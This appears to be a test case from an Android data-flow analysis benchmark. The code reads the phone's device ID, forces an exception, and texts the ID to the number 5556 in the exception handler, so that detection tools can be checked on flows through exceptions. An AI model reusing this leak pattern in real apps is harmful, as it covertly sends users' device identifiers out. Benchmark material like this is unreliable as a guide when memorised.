package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** A method that is called fills the field and fails; the caller sends it. */
public class ThrownBelow extends Case {
    String f;
    void fill(int n) { f = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(); Object[] a = new Object[n]; a[n + 1] = f; }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        try { fill(2); } catch (RuntimeException e) { SmsManager.getDefault().sendTextMessage("5556", null, f, null, null); }
    }
}
